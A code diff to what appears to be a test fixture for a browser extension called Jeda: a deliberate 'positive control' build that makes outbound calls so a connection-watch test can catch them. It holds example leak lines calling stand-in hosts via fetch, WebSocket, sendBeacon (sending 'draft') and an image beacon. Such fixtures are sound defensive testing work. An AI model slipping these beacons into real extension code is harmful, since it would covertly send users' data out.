@@ -1,6 +1,10 @@
-/** The positive control of the connection watch: a build that does what Jeda must never do. */
+/** The positive control of the connection watch: Jeda as it is, but it tells on the person in four ways. */
 export * from '../../src/browser/index.ts';
 
-if (globalThis.location?.protocol?.endsWith('-extension:'))
-  void fetch('https://background.leak.example/').catch(() => {});
-else new Image().src = 'https://page.leak.example/';
+if (location.protocol.endsWith('-extension:')) {
+  void fetch('https://fetch.leak.example/').catch(() => undefined);
+  new WebSocket('wss://socket.leak.example/');
+} else {
+  navigator.sendBeacon('https://beacon.leak.example/', 'draft');
+  new Image().src = 'https://image.leak.example/';
+}
